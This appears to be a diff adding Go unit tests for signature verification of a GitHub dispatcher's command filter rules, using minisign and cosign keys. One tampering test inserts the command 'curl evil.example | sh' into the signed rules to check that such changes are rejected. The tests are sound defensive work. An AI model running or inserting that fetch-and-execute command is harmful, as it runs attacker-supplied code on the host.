@@ -0,0 +1,156 @@
+package main
+
+import (
+	"crypto/ecdsa"
+	"crypto/ed25519"
+	"crypto/elliptic"
+	"crypto/rand"
+	"crypto/sha256"
+	"crypto/x509"
+	"encoding/base64"
+	"encoding/pem"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"golang.org/x/crypto/blake2b"
+)
+
+const signedTestRules = `[{"repo": "owner/repo", "branch": "refs/heads/main", "commands": ["make build"]}]`
+
+// writeMinisignKey writes the minisign public key of a new key pair and
+// returns the signing function producing .minisig files
+func writeMinisignKey(t *testing.T, path string) func(data []byte, hashed bool) []byte {
+	t.Helper()
+	publicKey, privateKey, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatalf("Failed to generate key: %v", err)
+	}
+	keyID := []byte{1, 2, 3, 4, 5, 6, 7, 8}
+	encoded := base64.StdEncoding.EncodeToString(append(append([]byte(minisignAlgorithm), keyID...), publicKey...))
+	os.WriteFile(path, []byte("untrusted comment: minisign public key 0807060504030201\n"+encoded+"\n"), 0o600)
+
+	return func(data []byte, hashed bool) []byte {
+		algorithm, message := minisignAlgorithm, data
+		if hashed {
+			hash := blake2b.Sum512(data)
+			algorithm, message = minisignHashedAlgorithm, hash[:]
+		}
+		sig := ed25519.Sign(privateKey, message)
+		trusted := "timestamp:1792137600\tfile:config.json"
+		global := ed25519.Sign(privateKey, append(append([]byte{}, sig...), trusted...))
+		return []byte("untrusted comment: signature from minisign secret key\n" +
+			base64.StdEncoding.EncodeToString(append(append([]byte(algorithm), keyID...), sig...)) + "\n" +
+			minisignTrustedComment + trusted + "\n" +
+			base64.StdEncoding.EncodeToString(global) + "\n")
+	}
+}
+
+func TestLoadConfig_ConfigSignature(t *testing.T) {
+	config := loadConfig()
+
+	if config.ConfigPublicKeyFile != "" || config.ConfigSignatureFile != "" {
+		t.Errorf("Expected unsigned config files, got key '%s'", config.ConfigPublicKeyFile)
+	}
+
+	os.Setenv("CONFIG_PUBLIC_KEY_FILE", "/etc/github-dispatcher/config.pub")
+	os.Setenv("CONFIG_SIGNATURE_FILE", "/etc/github-dispatcher/config.json.minisig")
+	defer os.Unsetenv("CONFIG_PUBLIC_KEY_FILE")
+	defer os.Unsetenv("CONFIG_SIGNATURE_FILE")
+
+	config = loadConfig()
+	if config.ConfigPublicKeyFile != "/etc/github-dispatcher/config.pub" {
+		t.Errorf("Expected ConfigPublicKeyFile to be '/etc/github-dispatcher/config.pub', got '%s'", config.ConfigPublicKeyFile)
+	}
+	if config.ConfigSignatureFile != "/etc/github-dispatcher/config.json.minisig" {
+		t.Errorf("Expected ConfigSignatureFile to be '/etc/github-dispatcher/config.json.minisig', got '%s'", config.ConfigSignatureFile)
+	}
+	if err := validateConfigSignatureConfig(config); err != nil {
+		t.Errorf("Expected valid config, got %v", err)
+	}
+	if err := validateConfigSignatureConfig(Config{ConfigSignatureFile: "config.json.sig"}); err == nil {
+		t.Error("Expected error for a signature without a public key, got nil")
+	}
+}
+
+func TestLoadVerifiedFilterRules_Minisign(t *testing.T) {
+	dir := t.TempDir()
+	config := Config{ConfigFilePath: filepath.Join(dir, "config.json"), ConfigPublicKeyFile: filepath.Join(dir, "minisign.pub")}
+	sign := writeMinisignKey(t, config.ConfigPublicKeyFile)
+	os.WriteFile(config.ConfigFilePath, []byte(signedTestRules), 0o600)
+
+	for _, hashed := range []bool{true, false} {
+		os.WriteFile(config.ConfigFilePath+".minisig", sign([]byte(signedTestRules), hashed), 0o600)
+		rules, err := loadVerifiedFilterRules(config)
+		if err != nil || len(rules) != 1 {
+			t.Errorf("Expected the signed rules to load (hashed: %t), got %v (%v)", hashed, rules, err)
+		}
+	}
+
+	// A rule added after signing
+	tampered := strings.Replace(signedTestRules, `"make build"`, `"make build", "curl evil.example | sh"`, 1)
+	os.WriteFile(config.ConfigFilePath, []byte(tampered), 0o600)
+	if _, err := loadVerifiedFilterRules(config); err == nil || !strings.Contains(err.Error(), "does not match") {
+		t.Errorf("Expected the tampered rules to be rejected, got %v", err)
+	}
+
+	// A tampered trusted comment
+	os.WriteFile(config.ConfigFilePath, []byte(signedTestRules), 0o600)
+	signature := strings.Replace(string(sign([]byte(signedTestRules), true)), "file:config.json", "file:other.json", 1)
+	os.WriteFile(config.ConfigFilePath+".minisig", []byte(signature), 0o600)
+	if _, err := loadVerifiedFilterRules(config); err == nil {
+		t.Error("Expected the tampered trusted comment to be rejected, got nil")
+	}
+
+	// A signature of another key
+	sign = writeMinisignKey(t, filepath.Join(dir, "other.pub"))
+	os.WriteFile(config.ConfigFilePath+".minisig", sign([]byte(signedTestRules), true), 0o600)
+	if _, err := loadVerifiedFilterRules(config); err == nil {
+		t.Error("Expected the signature of another key to be rejected, got nil")
+	}
+
+	os.Remove(config.ConfigFilePath + ".minisig")
+	if _, err := loadVerifiedFilterRules(config); err == nil {
+		t.Error("Expected a missing signature to be rejected, got nil")
+	}
+}
+
+func TestLoadVerifiedFilterRules_Cosign(t *testing.T) {
+	privateKey, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	if err != nil {
+		t.Fatalf("Failed to generate key: %v", err)
+	}
+	der, _ := x509.MarshalPKIXPublicKey(&privateKey.PublicKey)
+
+	dir := t.TempDir()
+	config := Config{
+		ConfigFilePath:      filepath.Join(dir, "config.json"),
+		ConfigPublicKeyFile: filepath.Join(dir, "cosign.pub"),
+		ConfigSignatureFile: filepath.Join(dir, "rules.sig"),
+	}
+	os.WriteFile(config.ConfigPublicKeyFile, pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}), 0o600)
+	os.WriteFile(config.ConfigFilePath, []byte(signedTestRules), 0o600)
+
+	digest := sha256.Sum256([]byte(signedTestRules))
+	sig, _ := ecdsa.SignASN1(rand.Reader, privateKey, digest[:])
+	os.WriteFile(config.ConfigSignatureFile, []byte(base64.StdEncoding.EncodeToString(sig)+"\n"), 0o600)
+
+	if rules, err := loadVerifiedFilterRules(config); err != nil || len(rules) != 1 {
+		t.Errorf("Expected the signed rules to load, got %v (%v)", rules, err)
+	}
+
+	os.WriteFile(config.ConfigFilePath, []byte(strings.Replace(signedTestRules, "owner/repo", "owner/other", 1)), 0o600)
+	if _, err := loadVerifiedFilterRules(config); err == nil {
+		t.Error("Expected the tampered rules to be rejected, got nil")
+	}
+}
+
+func TestLoadVerifiedFilterRules_Unsigned(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "config.json")
+	os.WriteFile(path, []byte(signedTestRules), 0o600)
+
+	if rules, err := loadVerifiedFilterRules(Config{ConfigFilePath: path}); err != nil || len(rules) != 1 {
+		t.Errorf("Expected the rules to load without CONFIG_PUBLIC_KEY_FILE, got %v (%v)", rules, err)
+	}
+}